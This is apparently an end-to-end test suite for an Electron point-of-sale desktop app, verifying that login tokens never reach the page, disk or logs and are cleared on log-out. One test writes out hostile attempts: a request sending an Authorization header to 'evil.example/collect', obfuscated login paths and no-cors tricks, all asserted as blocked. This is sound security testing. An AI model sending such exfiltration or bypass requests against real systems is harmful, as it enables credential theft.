import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { type Browser, expect, type Page, test } from '@playwright/test'
import type { Bridge } from '../../src/shared/bridge.ts'
import { specified } from '../../src/shared/messages.ts'
import { startVirtualPrinter, type VirtualPrinter } from '../../src/virtual-printer/virtual-printer.ts'
import { type DesktopOptions, type DesktopProgram, startDesktopProgram, untilReady } from '../support/programs/desktop-program.ts'
import { logInAs, openPath, walkGuardedWays } from '../support/e2e/guarded-ways.ts'
import { mouseHands } from '../support/e2e/hands.ts'
import { pathIs } from '../support/e2e/sale.ts'
import { recordToasts } from '../support/e2e/toasts.ts'
import { newDataDir, removeDataDir } from '../support/e2e/venue.ts'
import { admin, wholeSale } from '../support/e2e/whole-sale.ts'
import { startSmtp, type TestSmtp } from '../support/fakes/smtp.ts'

const COLUMNS = 42

let dataDir = ''
let printer: VirtualPrinter
let smtp: TestSmtp
let program: DesktopProgram
let address = ''
let page: Page

async function start(browser: Browser, more: Partial<DesktopOptions> = {}): Promise<void> {
  program = await startDesktopProgram(browser, {
    flags: ['--data', dataDir],
    prepare: recordToasts,
    ...more,
    env: { PURSER_SMTP_URL: smtp.url, PURSER_MAIL_FROM: 'purser@ship.example', ...more.env },
  })
  address = await untilReady(program)
  page = (await program.window()).page
}

async function startAgain(browser: Browser, more: Partial<DesktopOptions> = {}): Promise<void> {
  await program.quit()
  await program.kill()
  await start(browser, more)
}

/** The token, as it went out on the wire with the newest request of the screens. */
function tokenOnTheWire(): string {
  const carried = program.windows.sent().filter(({ headers }) => headers['Authorization'] !== undefined)
  return (carried.at(-1)?.headers['Authorization'] ?? '').replace('Bearer ', '')
}

/** All that a page has or was given: storage, its own objects, what IPC brought. Run it in a page that has been worked in. */
async function withinReachOfThePage(): Promise<string> {
  const ofPage = await page.evaluate(() => {
    const own = Object.getOwnPropertyNames(window).map((name) => {
      try {
        return `${name}=${JSON.stringify((window as unknown as Record<string, unknown>)[name])}`
      } catch {
        return name
      }
    })
    const resources = performance.getEntries().map(({ name }) => name)
    return [
      JSON.stringify(Object.entries(localStorage)),
      JSON.stringify(Object.entries(sessionStorage)),
      document.cookie,
      ...own,
      ...resources,
    ]
  })
  return [...ofPage, await page.content(), ...program.windows.delivered()].join('\n')
}

function onTheDisk(folder: string): string {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
  return files.map((entry) => readFileSync(join(entry.parentPath, entry.name), 'latin1')).join('\n')
}

async function logIn(): Promise<void> {
  await logInAs(page, admin)
  await expect(page).toHaveURL(pathIs('/foodorder/frontdesk'))
}

test.describe.configure({ mode: 'serial' })

test.beforeAll(async ({ browser }) => {
  dataDir = newDataDir()
  printer = await startVirtualPrinter({ port: 0, columns: COLUMNS })
  smtp = await startSmtp()
  await start(browser)
})
test.afterAll(async () => {
  await program.kill()
  await smtp.stop()
  await printer.close()
  removeDataDir(dataDir)
})

test('the whole sale in the desktop app, from an empty database to decoded paper', async () => {
  const bodies: string[] = []
  page.on(
    'response',
    (response) =>
      void response.text().then(
        (text) => bodies.push(text),
        () => undefined,
      ),
  )
  await wholeSale(mouseHands(page), { page, address, printer, smtp, printsOn: 'payment' })

  const token = tokenOnTheWire()
  expect(token).toMatch(/^[\w-]{43}$/)
  expect(bodies.length).toBeGreaterThan(20)
  const calls = await program.ask('calls', '')
  const tellers = calls.filter((call) => JSON.stringify(call).includes(token))
  // The host itself asks the server whether the login is still valid; nobody else gets the token.
  const others = tellers.filter(
    ({ name, args }) => name !== 'session purser-host.fetch' || !String(args[0]).startsWith(`${address}/api/`),
  )
  expect([...new Set(others.map(({ name }) => name))], 'calls to Electron that carry the token').toEqual([
    'safeStorage.encryptStringAsync',
  ])
  const places = {
    'the page': await withinReachOfThePage(),
    'answers to the page': bodies.join('\n'),
    'what the program says': program.said(),
    'the disk': onTheDisk(dataDir),
  }
  for (const [place, text] of Object.entries(places)) expect(text.includes(token), `the token in ${place}`).toBe(false)

  await page.evaluate((planted) => localStorage.setItem('planted', planted), token)
  expect((await withinReachOfThePage()).includes(token), 'negative control: a token there is found').toBe(true)
  await page.evaluate(() => localStorage.removeItem('planted'))
})

test('a page that works against its own program gets no token', async () => {
  const tries = await page.evaluate(
    async ({ api, credentials }) => {
      const attempt = async (url: string, init: RequestInit): Promise<string> => {
        try {
          const answer = await fetch(url, init)
          return `${answer.status} ${await answer.text()}`
        } catch {
          return 'blocked'
        }
      }
      const headers = { 'content-type': 'application/json' }
      const post = { method: 'POST', headers, body: JSON.stringify(credentials) }
      return {
        login: await attempt(`${api}/admin/login`, post),
        spelled: await attempt(`${api}//Admin/log%69n/`, post),
        setup: await attempt(`${api}/setup`, post),
        opaque: await attempt(`${api}/admin/login`, { method: 'POST', mode: 'no-cors', body: JSON.stringify(credentials) }),
        ownHeader: await attempt(`${api}/admin/session`, { headers: { Authorization: 'Bearer of-the-page' } }),
        elsewhere: await attempt('https://evil.example/collect', { headers: { Authorization: 'Bearer x' } }),
      }
    },
    { api: `${address}/api`, credentials: { email: admin.email, password: admin.password } },
  )
  expect(tries).toMatchObject({ login: 'blocked', spelled: 'blocked', setup: 'blocked', elsewhere: 'blocked' })
  expect(tries.opaque, 'an opaque answer has nothing to read').not.toContain('token')
  expect(tries.ownHeader, "the page's own header is replaced").toMatch(/^200 .*Anita Rao/)
  expect(tries.ownHeader).not.toContain('token')
  const sent = program.windows.sent()
  expect(JSON.stringify(sent)).not.toContain('of-the-page')
  for (const { url, method, initiatorOrigin } of sent.filter((request) => request.headers['Authorization'] !== undefined)) {
    expect([new URL(url).origin, initiatorOrigin], url).toEqual([address, 'app://purser'])
    expect(method, 'a preflight carries none').not.toBe('OPTIONS')
  }
})

test('events reach a page until it unsubscribes, and nothing piles up in its preload', async () => {
  const { ipc } = await program.window()
  const before = await ipc.listeners('purser:event')
  const seen = await page.evaluate(async () => {
    const { purser } = window as unknown as { purser: Bridge }
    const names: string[] = []
    const settings = await purser.call('getSettings', {})
    if (!settings.ok) throw new Error('no settings')
    const changeSeenBy = (name: string) =>
      new Promise<void>((resolve) => {
        const end = purser.subscribe('settingsChanged', (...given) => {
          names.push(`${name} ${given.length} ${given[0].terminalName}`)
          end()
          resolve()
        })
      })
    const ends = Array.from({ length: 20 }, (_, at) => purser.subscribe('settingsChanged', () => names.push(`many ${at}`)))
    ends.forEach((end) => end())
    for (const terminalName of ['Bar one', 'Bar two']) {
      const once = changeSeenBy(terminalName)
      await purser.call('saveSettings', { ...settings.value, terminalName })
      await once
    }
    return names
  })
  expect(seen, 'each listener once, with the payload alone').toEqual(['Bar one 1 Bar one', 'Bar two 1 Bar two'])
  expect(await ipc.listeners('purser:event')).toBe(before)
  expect(before, 'one for the whole page').toBe(1)
})

test('the login outlives a restart, under the ciphertext of the key store; a log-out leaves nothing of it', async ({
  browser,
}) => {
  const stored = (): string => readFileSync(join(dataDir, 'workstation', 'login.json'), 'utf8')
  expect(Object.keys(JSON.parse(stored()) as object).toSorted()).toEqual(['auth', 'token'])
  expect(stored()).not.toContain(admin.email)
  await startAgain(browser)
  await expect(page).toHaveURL(pathIs('/foodorder/frontdesk'))
  await expect(page.getByRole('button', { name: 'Leela Fernandes' })).toBeVisible()
  const token = tokenOnTheWire()
  await page.getByRole('button', { name: specified.logOut }).click()
  await expect(page.getByText(specified.loginTitle)).toBeVisible()
  await expect.poll(() => stored()).not.toMatch(/auth|token/)
  const answer = await fetch(`${address}/api/admin/session`, { headers: { authorization: `Bearer ${token}` } })
  expect(answer.status, 'the server ended it too').toBe(401)
})

test('guarded screens lead to the login and back, and a log-out closes them', async () => {
  await walkGuardedWays(page, admin)
  await openPath(page, '/')
})

test('a session that the server ends leads to the login, and is kept no longer', async () => {
  const before = tokenOnTheWire()
  await logIn()
  await expect.poll(tokenOnTheWire).not.toBe(before)
  const authorization = `Bearer ${tokenOnTheWire()}`
  expect((await fetch(`${address}/api/admin/logout`, { method: 'POST', headers: { authorization } })).status).toBe(200)
  await expect(page.getByText('Signed out for safety')).toBeVisible()
  await expect.poll(() => readFileSync(join(dataDir, 'workstation', 'login.json'), 'utf8')).not.toMatch(/auth|token/)
})

test('without a key store worth the name the login stays in memory', async ({ browser }) => {
  test.skip(process.platform !== 'linux', 'basic_text exists on Linux only')
  await startAgain(browser, { env: { STAND_IN_KEY_STORE: 'basic_text' } })
  await logIn()
  expect(readFileSync(join(dataDir, 'workstation', 'login.json'), 'utf8')).not.toMatch(/auth|token/)
  await page.reload()
  await expect(page).toHaveURL(pathIs('/foodorder/frontdesk'))
  await startAgain(browser, { env: { STAND_IN_KEY_STORE: 'basic_text' } })
  await expect(page.getByText(specified.loginTitle)).toBeVisible()
})
